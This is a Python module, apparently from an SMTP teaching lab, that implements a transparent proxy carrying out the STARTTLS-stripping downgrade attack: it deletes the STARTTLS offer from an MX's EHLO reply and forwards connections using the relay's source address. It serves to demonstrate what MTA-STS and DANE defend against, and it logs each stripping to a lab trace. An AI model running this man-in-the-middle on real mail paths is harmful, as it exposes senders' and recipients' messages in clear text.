"""An active attacker on the path between the relay and an MX: it deletes STARTTLS from the EHLO reply.

Opportunistic TLS between MTAs (RFC 3207, RFC 7435) encrypts only when the server offers STARTTLS, and the
offer travels in clear text before any encryption starts. Whoever sits on the path (a compromised router, a
hostile network) can delete the `250-STARTTLS` line: the sending MTA sees no offer and sends the message in
clear text. This is the STARTTLS-stripping attack MTA-STS (RFC 8461) and DANE (RFC 7672) exist to stop.

How the lab models "on the path", truthfully: the attacker does NOT touch DNS (it could not forge DANE's
DNSSEC-signed answers anyway). The relay still looks up the MX, still connects to the MX's address and port;
the lab's routing sends that connection through this proxy, which listens on a loopback address of its own
and opens its own connection to the real MX *from the relay's address* (a transparent proxy, like a router on
the path that passes the packets on with their source intact). So the MX cannot tell: it sees the relay as
its client, its SPF and blocklist checks see the relay's address, and every byte it receives in the clear is
in its wire tap (`lab.wire(conn)`). The attacker's own address appears only in the lab's routing.
"""

from __future__ import annotations

import asyncio
import socket
from dataclasses import dataclass, field

from ..i18n import N_, lazy
from ..trace.events import LabChange
from ..trace.ring import Trace

__all__ = ["StartTlsStripper", "strip_starttls"]


def strip_starttls(reply_lines: list[bytes]) -> tuple[list[bytes], bool]:
    """Return a multi-line EHLO reply without its STARTTLS line, re-punctuated, and whether one was removed.

    RFC 5321 section 4.2.1: every line but the last has a hyphen after the code, the last a space; when the
    removed line was the last one, the line before it becomes the last (`250-SIZE` -> `250 SIZE`).
    """
    kept = [line for line in reply_lines if line[4:].strip().upper() != b"STARTTLS"]
    if len(kept) == len(reply_lines) or not kept:
        return reply_lines, False
    fixed = [line[:3] + (b" " if i == len(kept) - 1 else b"-") + line[4:] for i, line in enumerate(kept)]
    return fixed, True


@dataclass
class StartTlsStripper:
    """A TCP proxy for one MX that deletes STARTTLS from the replies to EHLO (everything else passes)."""

    target_name: str
    target_address: str
    target_port: int
    address: str  # the attacker's own loopback address
    trace: Trace
    name: str = "attacker"
    port: int = 0
    stripped: int = 0  # EHLO replies it removed STARTTLS from
    connections: int = 0
    _server: asyncio.base_events.Server | None = field(default=None, repr=False)
    _tasks: set[asyncio.Task[None]] = field(default_factory=set, repr=False)

    async def start(self) -> None:
        self._server = await asyncio.start_server(self._serve, self.address, 0)
        self.port = self._server.sockets[0].getsockname()[1]
        self._note(lazy(N_("{name} [{address}] is now on the path to {target} [{target_address}]:{port}: it will "
                           "delete STARTTLS from EHLO replies"), name=self.name, address=self.address,
                        target=self.target_name, target_address=self.target_address, port=self.target_port))

    async def stop(self) -> None:
        if self._server is not None:
            self._server.close()
            for task in list(self._tasks):
                task.cancel()
            await asyncio.gather(*self._tasks, return_exceptions=True)
            await self._server.wait_closed()
            self._server = None
            self._note(lazy(N_("{name} left the path to {target}"), name=self.name, target=self.target_name))

    def _note(self, text: str, corr: str | None = None) -> None:
        self.trace.record("lab", "state", self.name, text, payload=LabChange("attack", self.target_name), corr=corr)

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        task = asyncio.current_task()
        assert task is not None
        self._tasks.add(task)
        self.connections += 1
        peer = writer.get_extra_info("peername")
        client = f"{peer[0]}:{peer[1]}"
        upstream_writer: asyncio.StreamWriter | None = None
        try:
            # The relay announced its connection for the message it carries; the MX claims the connection it
            # accepts from us: pass the announcement on, so the MX's side stays that message's (smtplab.trace.ring).
            corr = self.trace.claim(("conn", client))
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            sock.setblocking(False)
            sock.bind((peer[0], 0))  # transparent: the MX sees the relay's address, not the attacker's
            local = sock.getsockname()
            outer = f"{local[0]}:{local[1]}"
            if corr:
                self.trace.announce(("conn", outer), corr)
            try:
                await asyncio.get_running_loop().sock_connect(sock, (self.target_address, self.target_port))
            except OSError:
                sock.close()
                self.trace.claim(("conn", outer))
                return  # the relay sees the connection close, as if the MX had gone away
            up_reader, upstream_writer = await asyncio.open_connection(sock=sock)
            state = {"ehlo": False, "corr": corr}
            await asyncio.gather(self._client_to_server(reader, upstream_writer, client, outer, state),
                                 self._server_to_client(up_reader, writer, state))
        except (ConnectionError, asyncio.IncompleteReadError):
            pass
        finally:
            for w in (writer, upstream_writer):
                if w is not None:
                    w.close()
            self._tasks.discard(task)

    async def _client_to_server(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, client: str,
                                outer: str, state: dict[str, object]) -> None:
        try:
            while line := await reader.readline():
                verb = line[:5].upper()
                if verb in (b"EHLO ", b"EHLO\r"):
                    state["ehlo"] = True
                elif verb == b"MAIL ":
                    # The relay announces each transaction again before MAIL: pass that on too.
                    corr = self.trace.claim(("conn", client))
                    if corr:
                        self.trace.announce(("conn", outer), corr)
                        state["corr"] = corr
                writer.write(line)
                await writer.drain()
        finally:
            if writer.can_write_eof():
                writer.write_eof()

    async def _server_to_client(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter,
                                state: dict[str, object]) -> None:
        pending: list[bytes] = []
        try:
            while line := await reader.readline():
                if not state["ehlo"]:
                    writer.write(line)
                    await writer.drain()
                    continue
                pending.append(line)
                if line[3:4] == b"-":
                    continue  # more lines of the same reply follow (RFC 5321 section 4.2.1)
                state["ehlo"] = False
                lines, removed = strip_starttls(pending) if pending[0].startswith(b"250") else (pending, False)
                pending = []
                if removed:
                    self.stripped += 1
                    corr = state["corr"]
                    self._note(lazy(N_("{name} deleted 250-STARTTLS from {target}'s EHLO reply: the relay will not know the "
                                       "MX offers TLS"), name=self.name, target=self.target_name),
                               corr if isinstance(corr, str) else None)
                writer.write(b"".join(lines))
                await writer.drain()
        finally:
            writer.close()
